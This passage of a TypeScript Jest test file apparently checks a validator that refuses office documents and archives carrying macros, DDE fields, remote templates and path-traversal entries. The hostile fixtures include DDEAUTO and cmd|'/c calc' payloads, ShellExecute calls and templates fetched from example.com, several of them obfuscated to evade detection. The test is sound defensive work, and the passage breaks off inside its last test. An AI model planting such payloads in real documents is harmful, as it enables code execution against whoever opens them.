import { describe, expect, it } from '@jest/globals';
import { archive, docx, docxType, docxWith, pdf, zip } from '../../../test/support/sample-files.js';
import type { SamplePart } from '../../../test/support/sample-files.js';
import {
  basicLibraries,
  libreOfficeDocument,
  odsType,
  odtType,
  openDocumentContent,
  printedPdf,
  relationshipsOf,
  spreadsheet,
  wordDocument,
} from '../../../test/support/office-files.js';
import { FileRefused, declaredType, mustBeOfType, typeByName } from './file-types.js';

const png = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'),
  Buffer.from('0000000a49444154789c63000100000500010d0a2db40000000049454e44ae426082', 'hex'),
]);
const odt = zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<office:document-content/>' });
const codeOf = async (content: Buffer, type: string): Promise<string | null> => {
  try {
    await mustBeOfType(content, type);
    return null;
  } catch (error) {
    if (error instanceof FileRefused) return error.code;
    throw error;
  }
};

const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
const ordinaryFormulas = [
  'of:=SUM([.A1:.B9])*2', 'of:=SUM({1;2|3;4})', 'of:=[$\'Quý I|II\'.A1]', 'of:=IF([.A1]="a|b";"dde(";"")', "of:=['file:///C:/a]|.ods'#$Biểu.A1]",
  'of:=CALLED(1)&CONCATENATE("";RTDX(1))', 'oooc:=HYPERLINK("https://example.vn")',
]; // prettier-ignore

/** An extra field by which some readers name a part. */
const unicodePath = (name: string): Buffer => {
  const fields = Buffer.alloc(9);
  fields.writeUInt16LE(0x7075, 0);
  fields.writeUInt16LE(5 + name.length, 2);
  fields.writeUInt8(1, 4);
  return Buffer.concat([fields, Buffer.from(name)]);
};

describe('The type of a file', () => {
  it.each([
    ['a PDF', pdf('Quyết định'), 'application/pdf'],
    ['a picture', png, 'image/png'],
    ['a scan', Buffer.from('49492a0008000000000000000000', 'hex'), 'image/tiff'],
    ['a photograph', Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex'), 'image/jpeg'],
    ['a text document', docx('Phương án'), docxType],
    ['an open document', odt, 'application/vnd.oasis.opendocument.text'],
    ['a text, whatever it begins with', Buffer.from('BM01: biểu mẫu\r\n\tGhi chú\n'), 'text/plain'],
    ['a table', Buffer.from('\ufeffmã;tên\n1;Thủ tục\n'), 'text/csv'],
  ])('is known of %s', async (_what, content, type) => {
    expect(await codeOf(content, type)).toBeNull();
  });

  it.each([
    ['a web page that says it is a PDF', Buffer.from('<html><script>alert(1)</script></html>'), 'application/pdf'],
    ['a program that says it is a PDF', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), 'application/pdf'],
    ['an archive that is no document', zip({ 'word/document.xml': 'x' }), docxType],
    ['a document with macros', zip({ '[Content_Types].xml': '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' }), docxType],
    ['half a document', docx('x').subarray(0, -30), docxType],
    ['a picture that says it is a text', png, 'text/plain'],
    ['a text in another encoding', Buffer.from([0x43, 0xf4, 0x6e, 0x67]), 'text/plain'],
    ['a text with a NUL', Buffer.from('a\0b'), 'text/csv'],
  ])('is not believed of %s', async (_what, content, type) => {
    expect(await codeOf(content, type)).toBe('file-type-mismatch');
  }); // prettier-ignore

  const ole = (text: string): Buffer =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(3_000), Buffer.from(text, 'utf16le')]);
  const part = (name: string, content: string | Buffer = 'x'): { readonly name: string; readonly content: string | Buffer } => ({
    name,
    content,
  });
  const xlsm = zip({
    '[Content_Types].xml': '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
  });
  const types = (more: string): string => `<Types><Override ContentType="${docxType}.main+xml"/>${more}</Types>`;
  const odtWith = (...names: readonly string[]): Buffer =>
    zip({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml': '<x/>',
      ...Object.fromEntries(names.map((name) => [name, 'x'])),
    });

  it.each([
    ['in the part that they have', docxWith(part('word/vbaProject.bin')), docxType],
    ['whatever the case of its name', docxWith(part('WORD/VBAPROJECT.BIN')), docxType],
    ['in a part of another name', docxWith(part('word/embeddings/oleObject1.bin', ole('x_VBA_PROJECT'))), docxType],
    ['that the types name', archive([part('[Content_Types].xml', types('<Default Extension="bin" ContentType=\'application/vnd.ms-office.vbaProject\'/>'))]), docxType],
    ['in a table within', docxWith(part('word/embeddings/a.xlsx', xlsm)), docxType],
    ['in a document within a document', docxWith(part('a.docx', docxWith(part('b.docx', docxWith(part('word/vbaProject.bin')))))), docxType],
    ['of the oldest kind', docxWith(part('xl/macrosheets/sheet1.xml')), docxType],
    ['in a library', odtWith('Basic/Standard/Module1.xml'), 'application/vnd.oasis.opendocument.text'],
    ['in a script', odtWith('Scripts/python/a.py'), 'application/vnd.oasis.opendocument.text'],
    ['in an object', odtWith('Object 1/Basic/a.xml'), 'application/vnd.oasis.opendocument.text'],
  ])('is not taken with macros %s', async (_how, content, type) => {
    expect(await codeOf(content, type)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  it.each([
    ['is larger than its list says', docxWith({ name: 'a', content: Buffer.alloc(30_000_000), deflated: true, claimedSize: 1_000 })],
    ['is smaller than its list says', docxWith({ name: 'a', content: 'xyz', deflated: true, claimedSize: 1_000 })],
    ['has a part that leads elsewhere', docxWith(part('word/../../evil'))],
    ['has a part whose name goes on and on', docxWith(part('configurations2/'.repeat(100)))],
    ['has a part at the root of the disk', docxWith(part('/etc/passwd'))],
    ['has a part on another disk', docxWith(part('C:\\a'))],
    ['has two parts of one name', docxWith(part('word/a.xml'), part('Word/A.xml'))],
    ['lists a part under another name', docxWith({ ...part('word/vbaProject.bin'), listed: { name: 'word/a.bin' } })],
    ['has a part with another name for some readers', docxWith({ ...part('word/a.bin'), extra: unicodePath('word/b.bin') })],
    ['lists parts that overlap', docxWith({ ...part('a'), listed: { offset: 0 } })],
    ['has something between its parts and its list', archive([part('[Content_Types].xml', types(''))], 'PK hidden')],
    ['has something behind it', Buffer.concat([docx('x'), Buffer.from('more')])],
    ['has something before it', Buffer.concat([Buffer.from('MZ'), docx('x')])],
    ['is encrypted', docxWith({ ...part('a'), listed: { flags: 1 } })],
    ['hides its types behind entities', archive([part('[Content_Types].xml', types('<Default ContentType="macro&#69;nabled"/>'))])],
    ['writes its types in another encoding', archive([part('[Content_Types].xml', `<?xml version="1.0" encoding="utf-7"?>${types('')}`)])],
  ])('is not believed of an archive that %s', async (_how, content) => {
    expect(await codeOf(content, docxType)).toBe('file-type-mismatch');
  }); // prettier-ignore

  it('is known of a document with pictures, tables and a template within, packed as programs pack them', async () => {
    const content = docxWith(
      { ...part('word/media/image1.png', png), deflated: true },
      { ...part('word/embeddings/a.xlsx', docx('Bảng')), deflated: true },
      part('word/embeddings/oleObject1.bin', ole('Equation Native')),
      { ...part('word/long.xml', Array.from({ length: 200_000 }, (_, index) => `dòng ${String(index)}`).join('\n')), deflated: true },
    );
    expect(await codeOf(content, docxType)).toBeNull();
  });

  const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
  it.each([
    ['Word, made from a template of its author, with links, pictures and a table within', wordDocument(), docxType],
    ['a server that writes sizes behind each part', spreadsheet(), xlsxType],
    ['LibreOffice, with an object, a link and an empty list of scripts', libreOfficeDocument(), odtType],
    ['LibreOffice, a table', libreOfficeDocument(odsType), odsType],
    ['LibreOffice, with no library but the one that is always there', libreOfficeDocument(odtType, openDocumentContent('<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries/></office:script></office:scripts>')), odtType],
    ['LibreOffice, with a list of libraries that are empty', libreOfficeDocument(odtType, undefined, ...basicLibraries()), odtType],
    ['LibreOffice, with an object, a section and a template of the office', libreOfficeDocument(odtType, openDocumentContent(undefined, '<draw:object xlink:href="../B%C3%A1o%20c%C3%A1o/So%20lieu.ods"/><text:section-source xlink:href="file://maychu/chung/Phan%201.odt"/><meta:template xlink:href="file:///C:/Users/soan/AppData/a.ott"/><meta:auto-reload meta:delay="PT0S"/>')), odtType],
    ['LibreOffice, with formulas, arrays and sheets of any name', libreOfficeDocument(odsType, openDocumentContent(undefined, ordinaryFormulas.map((formula) => `<table:table-cell table:formula="${escaped(formula)}"/>`).join(''))), odsType],
    ['a printer', printedPdf(), 'application/pdf'],
  ])('is known of a document of %s', async (_what, content, type) => {
    expect(await codeOf(content, type)).toBeNull();
  }); // prettier-ignore

  const listener =
    '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:S.M.Main?language=Basic&amp;location=application"/>';
  const listeners = `<office:event-listeners>${listener}</office:event-listeners>`; // prettier-ignore
  it.each([
    ['that start when it is opened', openDocumentContent(`<office:scripts>${listeners}</office:scripts>`)],
    ['of an older way to start them', openDocumentContent('<office:scripts><office:event-listeners><script:event-listener script:language="StarBasic" script:macro-name="Main"/></office:event-listeners></office:scripts>')],
    ['under a prefix of its own', openDocumentContent().replace('<office:scripts/>', '<office:scripts><e:event-listener xmlns:e="urn:oasis:names:tc:opendocument:xmlns:script:1.0" e:language="ooo:script"/></office:scripts>')],
    ['written in it', openDocumentContent('<office:scripts><office:script script:language="JavaScript">run()</office:script></office:scripts>')],
    ['written in it, not as text', openDocumentContent('<office:scripts><office:script><![CDATA[run()]]></office:script></office:scripts>')],
    ['in a library within', openDocumentContent('<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded><ooo:module/></ooo:library-embedded></ooo:libraries></office:script></office:scripts>')],
    ['behind a link', openDocumentContent(undefined, '<text:a xlink:href="&#x6D;acro:///S.M.Main()">đây</text:a>')],
    ['in a field', openDocumentContent(undefined, '<text:execute-macro text:name="Main">đây</text:execute-macro>')],
    ['behind a picture that starts a program', openDocumentContent(undefined, '<office:event-listeners><presentation:event-listener presentation:action="execute" xlink:href="file:///C:/a.exe"/></office:event-listeners>')],
    ['behind a megabyte of text', openDocumentContent(undefined, `${'<text:p>chữ</text:p>'.repeat(90_000)}${listeners}`)],
    ['in a frame that comes from elsewhere', openDocumentContent(undefined, '<draw:floating-frame xlink:href="https://example.com/a.html"/>')],
  ])('is not taken of an open document with scripts %s', async (_how, content) => {
    expect(await codeOf(libreOfficeDocument(odtType, content), odtType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  it.each([
    ['a channel to another program', '<text:section><office:dde-source office:dde-application="soffice" office:dde-topic="a" office:dde-item="b"/></text:section>'],
    ['a channel that a field reads', '<text:dde-connection-decls><text:dde-connection-decl office:name="a" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>'],
    ['a formula that asks another program', '<table:table-cell table:formula="of:=1+ DDE (&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>'],
    ['a formula that asks far behind a name', `<table:table-cell table:formula="of:=WEBSERVICE${' '.repeat(120)}(&quot;http://example.com/&quot;)"/>`],
    ['a formula that asks a server', '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://example.com/&quot;)"/>'],
    ['a formula that asks behind an array', "<table:table-cell table:formula=\"of:=SUM({1|2})+cmd|'/c calc'!A0\"/>"],
    ['a formula of Excel that asks', "<table:table-cell table:formula=\"msoxl:=T[a'[b]+cmd|'/c calc'!A0+T[a'[b]\"/>"],
    ['a name that asks', '<table:named-expression table:name="a" table:expression="of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)"/>'],
    ['a condition that asks', '<table:content-validation table:condition="of:cell-content-is-in-list(DDE(1;2;3))"/>'],
    ['a program in the page', '<draw:frame><draw:plugin xlink:href="http://example.com/a.swf" draw:mime-type="application/x-shockwave-flash"/></draw:frame>'],
    ['a program in the page that it brings', '<draw:frame><draw:applet draw:code="a"/></draw:frame>'],
    ['an object on a server', '<draw:frame><draw:object xlink:href="http://example.com/a.ods"/></draw:frame>'],
    ['a section on a server', '<text:section-source xlink:href="file://example.com/a.odt"/>'],
    ['a database on a server', '<form:form form:datasource="http://example.com/a.odb"/>'],
    ['a connection to a server', '<form:form><form:connection-resource xlink:href="http://example.com/a.odb"/></form:form>'],
    ['data of a form on a server', '<xforms:instance src="http://example.com/a.xml"/>'],
    ['a template on a server', '<meta:template xlink:href="http://example.com/a.ott"/>'],
    ['another document that is loaded after it', '<meta:auto-reload xlink:href="http://example.com/a.odt" meta:delay="PT1S"/>'],
    ['a page in a frame on the disk', '<draw:floating-frame xlink:href="../a.html"/>'],
  ])('is not taken of an open document with %s', async (_what, body) => {
    expect(await codeOf(libreOfficeDocument(odsType, openDocumentContent(undefined, body)), odsType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  it('is taken of an open document that counts over a list, between whose items Writer puts a stroke', async () => {
    const counting =
      '<table:table-cell table:formula="ooow:mean &lt;A1&gt;|&lt;B1&gt;"/><text:expression text:formula="ooow:mean 10|20|30"/>';
    expect(await codeOf(libreOfficeDocument(odsType, openDocumentContent(undefined, counting)), odsType)).toBeNull();
  });

  it.each([
    ['a module', basicLibraries('<library:element library:name="Module1"/>')],
    ['something written', basicLibraries('Sub Main')],
    ['a library elsewhere', [part('Basic/script-lc.xml', '<library:libraries><library:library library:name="A" xlink:href="file:///C:/a/script-lb.xml" library:link="true"/></library:libraries>')]],
    ['a module that no list names', [...basicLibraries(), part('Basic/Standard/Module1.xml')]],
  ])('is not taken of an open document that lists libraries with %s', async (_what, parts) => {
    expect(await codeOf(libreOfficeDocument(odtType, undefined, ...parts), odtType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  it('is not taken of an open document with scripts in an object, in its styles or under a key', async () => {
    const script = openDocumentContent(listeners);
    for (const name of ['Object 2/content.xml', 'Object 2/Styles.xml', 'Configurations2/toolbar/custom.xml'])
      expect(await codeOf(libreOfficeDocument(odtType, undefined, part(name, script)), odtType)).toBe('file-type-not-allowed');
  });

  it('is not believed of an open document that readers may read in different ways', async () => {
    const declared = `<!DOCTYPE x [<!ENTITY run '${listener}'>]>${openDocumentContent(undefined, '&run;')}`;
    const utf16 = ['\ufeff', ''].map((mark) => Buffer.from(`${mark}${openDocumentContent(listeners)}`, 'utf16le'));
    for (const content of utf16)
      expect(await codeOf(libreOfficeDocument(odtType, undefined, part('Object 2/content.xml', content)), odtType)).toBe(
        'file-type-mismatch',
      );
    for (const content of [declared, openDocumentContent().slice(0, -2)])
      expect(await codeOf(libreOfficeDocument(odtType, content), odtType)).toBe('file-type-mismatch');
  });

  it.each([
    ['a template', 'word/_rels/settings.xml.rels', 'attachedTemplate', 'https://example.com/a.dotm'],
    ['a template on a share', 'Word/_RELS/settings.XML.rels', 'attachedTemplate', 'file://may-chu.example.com/a.dotm'],
    ['a template on a share, in another spelling', 'word/_rels/footer1.xml.rels', 'attachedTemplate', '\\\\may-chu.example.com\\a.dotm'],
    ['an object', 'word/_rels/header1.xml.rels', 'oleObject', 'http://example.com/a.hta'],
    ['a frame', 'word/_rels/webSettings.xml.rels', 'frame', 'http://example.com/a.html'],
    ['a document', 'word/_rels/footer1.xml.rels', 'http://purl.oclc.org/ooxml/officeDocument/relationships/subDocument', 'http://example.com/a.docx'],
  ])('is not taken of a document that fetches %s from elsewhere', async (_what, name, type, target) => {
    expect(await codeOf(docxWith(part(name, relationshipsOf([type, target, true]))), docxType)).toBe('file-type-not-allowed');
    // Also where it does not say that it leads elsewhere.
    expect(await codeOf(docxWith(part(name, relationshipsOf([type, target]))), docxType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  const workbook = 'D:\\So%20lieu\\Bi%E1%BB%83u%201.xlsx';
  it.each([
    ['a chart that has its workbook on the disk', 'word/charts/_rels/chart1.xml.rels', 'oleObject', `file:///${workbook}`],
    ['a chart that has its workbook beside it', 'word/charts/_rels/chart1.xml.rels', 'package', 'Bi%E1%BB%83u%201.xlsx'],
    ['a table that is linked to its workbook', 'word/_rels/document.xml.rels', 'oleObject', `file:///${workbook}!Sheet1!R1C1:R9C4`],
    ['a template of the office', 'word/_rels/settings.xml.rels', 'attachedTemplate', 'file:///\\\\maychu\\mau\\Cong%20van.dotx'],
    ['a template of the office, in another spelling', 'word/_rels/settings.xml.rels', 'attachedTemplate', 'file://MAYCHU-01/mau/a.dotx'],
    ['a template on a Mac', 'word/_rels/settings.xml.rels', 'attachedTemplate', 'file:///Users/soan/Library/Group%20Containers/a.dotx'],
    ['a template on an older Mac', 'word/_rels/settings.xml.rels', 'attachedTemplate', 'file://localhost/Users/soan/a.dotx'],
    ['a template on an old Mac', 'word/_rels/settings.xml.rels', 'attachedTemplate', 'Macintosh%20HD:Users:soan:a.dotx'],
    ['a part of a long document', 'word/_rels/document.xml.rels', 'subDocument', 'Chuong%201.docx'],
  ])('is known of a document with %s', async (_what, name, type, target) => {
    expect(await codeOf(docxWith(part(name, relationshipsOf([type, target, true]))), docxType)).toBeNull();
  }); // prettier-ignore

  it.each([
    'file:///\\\\203.0.113.5\\a\\b.dotx', '\\\\3405803781\\a\\b.dotx', '//0xcb007105/a/b.dotx', 'file:///\\\\maychu@8080\\a\\b.dotx', '\\\\maychu@SSL\\DavWWWRoot\\b.dotx',
    '\\\\?\\UNC\\example.com\\a\\b.dotx', 'file://localhost//example.com/a/b.dotx', 'file:////example.com/a/b.dotx', 'file:///%5C%5Cexample.com%5Ca%5Cb.dotx',
    '%5C%5Cexample.com%5Cb.dotx', '/\\example.com/a/b.dotx', 'h&#9;ttp://maychu/b.dotx', 'http://maychu/b.dotx', 'mhtml:file://C:\\a.mht!x', 'script:a.sct', `${'%20'.repeat(3_000)}//example.com/b.dotx`,
  ])('is not taken of a document with a template or a linked object at %s', async (target) => {
    for (const type of ['attachedTemplate', 'oleObject', 'package', 'subDocument'])
      expect(await codeOf(docxWith(part('word/_rels/a.xml.rels', relationshipsOf([type, target, true]))), docxType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const words = (body: string, more = w): string => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<w:document ${more} xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><w:body><w:p>${body}</w:p></w:body></w:document>`; // prettier-ignore
  const run = (what: string): string => `<w:r w:rsidR="00A1"><w:rPr><w:b/></w:rPr>${what}</w:r>`;
  const turn = (kind: string): string => run(`<w:fldChar w:fldCharType="${kind}"/>`);
  const said = (text: string, name = 'instrText'): string => run(`<w:${name} xml:space="preserve">${escaped(text)}</w:${name}>`);
  const field = (...codes: readonly string[]): string => `${turn('begin')}${codes.map((code) => (code.startsWith('<') ? code : said(code))).join('')}${turn('separate')}${run('<w:t>1</w:t>')}${turn('end')}`; // prettier-ignore
  const header = (body: string): SamplePart => part('word/header1.xml', words(body));

  it.each([
    ['a page number, a link, a table of contents and a number that is counted', field(' PAGE \\* MERGEFORMAT ') + field(' HYPERLINK "http://example.vn/dde" ') + field(' TOC \\o "1-3" \\h \\z \\u ') + field(' = ', field(' NUMPAGES '), ' - 1 ')],
    ['a choice between fields', field(' IF ', field(' MERGEFIELD DDE '), ' = "DDEAUTO" "a" "b" ')],
    ['a place to click', field(' MACROBUTTON NoMacro [Họ tên] ')],
    ['a picture from a server', field(' INCLUDEPICTURE "http://example.vn/a.png" \\d ')],
    ['tables and texts of its office', field(' LINK Excel.Sheet.12 "D:\\\\So lieu\\\\a.xlsx" "Biểu!R1C1:R9C4" \\a \\f 5 \\h ') + field(' LINK Excel.Sheet.8 D:\\\\a.xls A1:B2 \\a ') + field(' INCLUDETEXT "\\\\\\\\maychu\\\\chung\\\\a.docx" ')],
    ['what was cited', field(` ADDIN ZOTERO_ITEM CSL_CITATION {"uri":"http://zotero.org/${'x'.repeat(90_000)}"} `)],
    ['a field in a field by a slip', field(field(' PAGE '))],
    ['an equation and a box with a page number', `<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:f><m:num><m:r><m:t>a</m:t></m:r></m:num></m:f></m:oMath>${run(`<mc:AlternateContent><mc:Choice Requires="wps"><wps:txbx xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><w:txbxContent>${field(' PAGE ')}</w:txbxContent></wps:txbx></mc:Choice><mc:Fallback><w:pict>${field(' PAGE ')}</w:pict></mc:Fallback></mc:AlternateContent>`)}`],
    ['text about fields', run('<w:t>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:t>')],
  ])('is known of a document with fields: %s', async (_what, body) => {
    expect(await codeOf(docxWith(header(body)), docxType)).toBeNull();
  }); // prettier-ignore

  const ask = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ';
  const foreign = '<x:a xmlns:x="urn:example"><w:instrText>PAGE </w:instrText></x:a>';
  it.each([
    ['in one piece', field(` DDEAUTO ${ask}`)],
    ['in another case', field(` dde ${ask}`)],
    ['spread over runs', field(' ', 'D', 'DE', '<w:proofErr w:type="spellStart"/>', 'AUT', `O ${ask}`)],
    ['in references', turn('begin') + run('<w:instrText>&#68;D&#x45;AUTO x y</w:instrText>') + turn('end')],
    ['in a section of characters', turn('begin') + run('<w:instrText>D<![CDATA[DEAUT]]>O x y</w:instrText>') + turn('end')],
    ['behind a comment', turn('begin') + run('<w:instrText>D<!-- -->DEAUTO x y</w:instrText>') + turn('end')],
    ['within another', field(' IF ', field(` DDEAUTO ${ask}`), ' = 1 ')],
    ['with a name that another says', field(' DDE', field(' QUOTE 65 85 84 79 '), ask)],
    ['with a name that is only said by another', field(field(' QUOTE 68 68 69 '), ask)],
    ['with a program that another says', field(' DDE ', field(' REF a '), ' ')],
    ['without a result', turn('begin') + said(` DDEAUTO ${ask}`) + turn('end')],
    ['without an end', turn('begin') + said(` DDEAUTO ${ask}`)],
    ['without a beginning', said(` DDEAUTO ${ask}`)],
    ['that was deleted', turn('begin') + said(' DDEAUTO x y ', 'delInstrText') + turn('end')],
    ['with letters between that were deleted', turn('begin') + said(' DD') + said('x', 'delInstrText') + said(`EAUTO ${ask}`) + turn('end')],
    ['as text', turn('begin') + run(`<w:t>DDEAUTO ${escaped(ask)}</w:t>`) + turn('end')],
    ['that is simple', `<w:fldSimple w:instr="${escaped(` DDEAUTO ${ask}`)}">${run('<w:t>1</w:t>')}</w:fldSimple>`],
    ['to a database', field(' DATABASE \\d "D:\\\\a.mdb" \\c "DSN=a" \\s "SELECT 1" ')],
    ['for a text on a server', field(' INCLUDETEXT "http://example.com/a.docx" ')],
    ['for a text on a share', field(' INCLUDETEXT "\\\\\\\\example.com\\\\a.docx" \\* MERGEFORMAT ')],
    ['for a text on a share, written once', field(' INCLUDETEXT \\\\example.com\\a.docx ')],
    ['for a text where another field says', field(' INCLUDETEXT "', field(' QUOTE 104 '), '" ')],
    ['for a table on a server', field(' LINK Excel.Sheet.12 “https://example.com/a.xlsx” "A!R1C1" \\a ')],
    ['for a chapter on a server', field(' RD "http://example.com/a.docx" ')],
  ])('is not taken of a document with a field that asks %s', async (_how, body) => {
    expect(await codeOf(docxWith(header(body)), docxType)).toBe('file-type-not-allowed');
    expect(await codeOf(docxWith(part('a.bin', Buffer.from(`\ufeff${words(body)}`, 'utf16le'))), docxType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  it.each([
    ['with what one reader drops', turn('begin') + run(foreign) + said(`DDEAUTO ${ask}`) + turn('end')],
    ['in what one reader drops', turn('begin') + run('<mc:AlternateContent><mc:Choice Requires="w14"><w:instrText>DD</w:instrText></mc:Choice></mc:AlternateContent>') + said(`EAUTO ${ask}`) + turn('end')],
    ['with something in its name', turn('begin') + run('<w:instrText>DD<x:a xmlns:x="urn:example">x</x:a>EAUTO x</w:instrText>') + turn('end')],
    ['that ends in what one reader drops', turn('begin') + `<x:a xmlns:x="urn:example">${turn('end')}</x:a>` + said('DDEAUTO x') + turn('end')],
    ['behind white space without end', turn('begin') + said(' '.repeat(20_000)) + said('DDEAUTO x') + turn('end')],
    ['with two turns at once', run('<w:fldChar w:fldCharType="begin" x:fldCharType="end"/>') + said('DDEAUTO x')],
  ])('is not believed of a document with a field that readers may take in different ways: %s', async (_how, body) => {
    expect(await codeOf(docxWith(header(body)), docxType)).toBe('file-type-mismatch');
  }); // prettier-ignore

  const s = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const sheet = (formula: string): SamplePart => part('xl/worksheets/sheet2.xml', `<worksheet ${s}><sheetData><row r="1"><c r="A1"><f>${escaped(formula)}</f><v>1</v></c></row></sheetData></worksheet>`); // prettier-ignore
  it('is known of a table with formulas', async () => {
    const ordinary = ["SUM(Sheet1!A1:B2)", `IF(A1="a|b","WEBSERVICE(","")`, "'Quý I|II'!A1", 'Table1[[#This Row],[Tên|Mã]]', "Table1[it''s]", "'[1]Biểu'!A1", '_xlfn.XLOOKUP(A1,B:B,C:C)', 'SUM({1,2;3,4})', 'HYPERLINK("https://example.vn","a")', 'CALLED(1)', '[1]!Ten', 'SUM(']; // prettier-ignore
    for (const formula of ordinary) expect([formula, await codeOf(spreadsheet(sheet(formula)), xlsxType)]).toEqual([formula, null]);
  });

  it.each([
    ['a channel to a program', "cmd|'/c calc'!A0"],
    ['a channel to a program behind another word', "1+ 'MSEXCEL'|'\\..\\..\\cmd.exe /c calc'!''"],
    ['a channel behind a name that does not end', "'a\"+cmd|x!A0"],
    ['a channel between names with quotes', "T[a'[b]+cmd|'/c calc'!A0+T[a'[b]"],
    ['a server', '_xlfn.WEBSERVICE("http://example.com/"&A1)'],
    ['a program that sends in real time', 'RTD("a.b",,"c")'],
    ['a library of the system', 'CALL("Shell32","ShellExecuteA","JJCCCJJ",0)'],
    ['a program elsewhere', '_xlfn._xlws.PY(0,0)'],
    ['a database', 'SQL.REQUEST ("DSN=a",,,"SELECT 1")'],
  ])('is not taken of a table with a formula that asks %s', async (_what, formula) => {
    expect(await codeOf(spreadsheet(sheet(formula)), xlsxType)).toBe('file-type-not-allowed');
    const named = `<x:workbook xmlns:x="http://purl.oclc.org/ooxml/spreadsheetml/main"><x:definedNames><x:definedName name="a">${escaped(formula)}</x:definedName></x:definedNames></x:workbook>`;
    expect(await codeOf(spreadsheet(part('xl/a.dat', named)), xlsxType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  it.each([
    ['a channel in its links', 'xl/externalLinks/externalLink2.xml', `<externalLink ${s}><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>`],
    ['a name that starts by itself', 'xl/workbook2.xml', `<workbook ${s}><definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames></workbook>`],
    ['data that are fetched when it is opened', 'xl/connections.xml', `<connections ${s}><connection id="1" type="5" refreshOnLoad="1"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1"/></connection></connections>`],
    ['data that are fetched again and again', 'xl/connections.xml', `<connections ${s}><connection id="1" interval="5"/></connections>`],
    ['a page that is fetched', 'xl/connections.xml', `<connections ${s}><connection id="1"><webPr url="http://example.com/a"/></connection></connections>`],
    ['data on a share', 'xl/connections.xml', `<connections ${s}><connection id="1"><dbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\example.com\\a\\b.xlsx;Mode=Read"/></connection></connections>`],
    ['a query that runs when it is opened', 'xl/queryTables/queryTable1.xml', `<queryTable ${s} refreshOnLoad="true"/>`],
    ['a pivot of what is fetched when it is opened', 'xl/pivotCache/a.xml', `<pivotCacheDefinition ${s} refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>`],
    ['a program for the margin', 'xl/webextensions/webextension1.xml', '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{A}"/>'],
    ['a program for the margin, in its relationships', '_rels/a.rels', relationshipsOf(['http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes', '/xl/a.xml'])],
    ['a program by the name of its file', 'docProps/custom.xml', '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property fmtid="{D5}" pid="2" name="_AssemblyLocation"><vt:lpwstr xmlns:vt="urn:a">http://example.com/a.vsto|b</vt:lpwstr></property></Properties>'],
    ['addresses of a letter on a server', 'word/_rels/settings.xml.rels', relationshipsOf(['mailMergeSource', 'file:///\\\\example.com\\a\\b.xlsx', true])],
    ['addresses of a letter on a server, in words', 'word/settings.xml', `<w:settings ${w}><w:mailMerge><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=http://example.com/a.xlsx"/></w:mailMerge></w:settings>`],
    ['a control that is a browser', 'word/activeX/activeX1.xml', '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>'],
    ['a film that is a page', 'word/document2.xml', words('<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe&gt;"/>')],
    ['a click that starts a program', 'ppt/slides/slide1.xml', '<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/>'],
    ['a pack of programs', 'word/settings.xml', `<w:settings ${w}><sl:schema xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main" sl:manifestLocation="http://example.com/a.xml"/></w:settings>`],
    ['a drawing with a script', 'word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>run()</script></svg>'],
    ['a drawing that acts when it is shown', 'word/media/image1.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="run()"/>'],
    ['a drawing with a link that runs', 'word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg"><a href="java&#10;script:run()"/></svg>'],
  ])('is not taken of a table or a text with %s', async (_what, name, content) => {
